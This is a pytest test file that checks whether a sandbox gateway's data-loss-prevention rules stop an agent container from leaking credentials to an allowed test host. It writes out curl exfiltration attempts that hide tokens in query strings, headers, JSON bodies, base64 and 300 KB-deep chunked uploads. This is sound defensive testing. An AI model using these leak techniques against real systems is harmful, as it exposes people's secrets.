"""DLP from inside a real bottle: what the bottle sends to an allowed host inside TLS carries no secret the
gate holds and no credential of a known format, wherever it hides it.

The host (``collect``, tests/bottle/https_servers.py) is allowed and inspected with no method rules, so DLP
alone stands between the bottle and it; it takes any request and logs every byte it read, so a canary that
got through shows there. The canaries: the Anthropic credential the gate holds (the bottle never has it; an
agent that came by it, say reflected by a server, sends it on), a GitHub token made here, as the bottle
would find one in the workspace, and an AWS secret key after its keyword in mixed case. Each attack must get the gate's 403 naming the DLP rule, never the value; the
collector must never see the canary; the audit must name the rule and never hold the value. A clean request
of the same shapes must pass, so each attack can fail.
"""

from __future__ import annotations

import base64
import json
import secrets
import string
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import docker
import pytest

from claude_bottle.agent.schema import AgentConfig
from claude_bottle.credentials import Credential
from claude_bottle.gate.settings import parse_upstream
from claude_bottle.launch import Launch, started
from claude_bottle.policy.addresses import parse_network
from claude_bottle.policy.hosts import Allowlist
from claude_bottle.runtime.run import Run
from claude_bottle.verify.standins import in_bottle
from tests.bottle.conftest import Upstream, gate_audit, gate_log, leftovers
from tests.bottle.https_servers import COLLECT, PORTS, Servers, https_servers
from tests.helpers import make_token

pytestmark = pytest.mark.docker
URL = f"https://{COLLECT}:{PORTS[COLLECT]}"
FILLER = 300_000  # bytes of body before the canary: well past the gate's first read and the scanner's tail


@pytest.fixture(scope="module")
def servers(client: docker.DockerClient, upstream: Upstream, built_images: tuple[str, str],
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    with https_servers(client, built_images[1], upstream.network, tmp_path_factory.mktemp("ca")) as found:
        yield found


@dataclass
class Bottle:
    run: Run
    credential: str  # what the gate holds

    def audit(self) -> list[dict[str, Any]]:
        return gate_audit(self.run)

    def gate_log(self) -> str:
        return gate_log(self.run)


@pytest.fixture(scope="module")
def bottle(client: docker.DockerClient, upstream: Upstream, servers: Servers,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bottle]:
    home = tmp_path_factory.mktemp("dlp")
    workspace = home / "project"
    (workspace / ".git").mkdir(parents=True)
    workspace.chmod(0o777)
    credential = make_token()
    agent = AgentConfig(name="dlp", allow=Allowlist.parse([f"{COLLECT}:{PORTS[COLLECT]}"]),
                        allow_private=(parse_network(upstream.subnet),))
    launch = Launch(agent, workspace, Credential.parse(credential, "test"), parse_upstream(upstream.url),
                    (upstream.network,), (servers.ca_file,))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", str(home / "config"))
        patch.setenv("XDG_STATE_HOME", str(home / "state"))
        with started(launch, lambda line: None) as run:
            run.create_bottle(["sleep", "900"], tty=False)
            run.engine.start(run.names.bottle)
            yield Bottle(run, credential)
    assert leftovers(client, "dlp") == []


def eventually(found: Callable[[], list[dict[str, Any]]], seconds: float = 10) -> list[dict[str, Any]]:
    """What ``found`` returns once it is not empty (a server logs a request cut off once it sees the reset)."""
    deadline = time.monotonic() + seconds
    while not (result := found()) and time.monotonic() < deadline:
        time.sleep(0.1)
    return result


def github_token() -> str:
    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))


def aws_secret_key_in_mixed_case() -> str:
    """An AWS secret key after its keyword spelled in a case no credentials file uses: the rule ignores case."""
    return "AwS_SeCrEt_AcCeSs_KeY=" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(40))


def b64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


# How the bottle sends a canary: curl's arguments ($CANARY where it goes), and where DLP finds it.
SHAPES = {
    "query": ("\"{url}/search?q=$CANARY\"", "URL"),
    "header": ("-H \"X-Note: $CANARY\" {url}/ping", "headers"),
    "json body": ("-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$CANARY\\\"}}\" {url}/notes",
                  "body"),
    # curl sends stdin chunked; the canary comes 300 KB in, after many chunks have gone upstream
    "chunked upload": ("-T - -H 'Transfer-Encoding: chunked' {url}/upload", "body"),
}


def send(bottle: Bottle, shape: str, canary: str) -> tuple[int, str, str]:
    """The bottle sends ``canary`` in ``shape`` with curl: (curl's exit code, the final response head, the
    body)."""
    arguments, _ = SHAPES[shape]
    command = (f"curl -sS --suppress-connect-headers --max-time 60 -D /tmp/head -o /tmp/body {arguments.format(url=URL)}; "
               "echo \"curl exit $?\"; cat /tmp/head; echo ==; cat /tmp/body")
    if shape == "chunked upload":
        command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$CANARY\"; "
                   f"head -c 5000 /dev/zero | tr '\\0' b; }} | {command}")
    _, output = in_bottle(bottle.run, f"{{ read -r CANARY; rm -f /tmp/head /tmp/body; {command}; }}",
                          stdin=canary)
    status_line, _, rest = output.partition("\n")
    heads, _, body = rest.partition("\n==\n")
    final = [head for head in heads.split("\r\n\r\n") if head.strip()][-1:]  # after any 100 Continue
    return int(status_line.removeprefix("curl exit ")), "".join(final).strip(), body


CANARIES = {
    "the held credential": (lambda bottle: bottle.credential, "held-secret"),
    "the held credential in base64": (lambda bottle: b64(bottle.credential), "held-secret"),
    "a GitHub token": (lambda bottle: github_token(), "github-token"),
    "an AWS secret key, its keyword in mixed case": (lambda bottle: aws_secret_key_in_mixed_case(),
                                                     "aws-secret-access-key"),
}


@pytest.mark.parametrize("shape", list(SHAPES))
@pytest.mark.parametrize("canary_name", list(CANARIES))
def test_a_canary_sent_inside_tls_is_refused_and_never_arrives(bottle: Bottle, servers: Servers, shape: str,
                                                               canary_name: str) -> None:
    make, rule = CANARIES[canary_name]
    canary = make(bottle)
    before = len(bottle.audit())
    code, head, body = send(bottle, shape, canary)
    assert head.startswith("HTTP/1.1 403"), (code, head, body)
    where = SHAPES[shape][1]
    reason = next(line.split(":", 1)[1].strip() for line in head.splitlines()
                  if line.lower().startswith("x-deny-reason:"))
    assert reason.endswith(f"in the request {where}: DLP rule {rule}"), reason
    assert canary not in head + body
    received = json.dumps(servers.requests())
    assert canary not in received and b64(canary) not in received, f"the collector got the canary ({shape})"
    if shape == "chunked upload":  # the head and the body's start went up, then the gate reset the upstream
        cut = eventually(lambda: [r for r in servers.requests(COLLECT)[-3:]
                                  if r["target"] == "/upload" and not r["complete"]])
        assert cut and 0 < len(cut[-1]["body"]) <= FILLER + 1, "the upstream saw no cut-off upload"
    (line,) = [r for r in bottle.audit()[before:] if r["decision"] == "deny"]
    assert (line["status"], line["rule"], line["reason"]) == (403, f"[dlp] {rule}", reason)
    log = bottle.gate_log()
    assert canary not in log and b64(canary) not in log


@pytest.mark.parametrize("shape", list(SHAPES))
def test_the_same_requests_without_a_canary_pass(bottle: Bottle, servers: Servers, shape: str) -> None:
    plain = "nothing-secret-" + secrets.token_hex(8)
    code, head, body = send(bottle, shape, plain)
    assert code == 0 and head.startswith("HTTP/1.1 200"), (code, head, body)
    got = [r for r in servers.requests(COLLECT) if plain in json.dumps(r)]
    assert got and got[-1]["complete"], f"the collector did not get the {shape}"
    if shape == "chunked upload":
        assert len(got[-1]["body"]) == FILLER + len(plain) + 2 + 5000
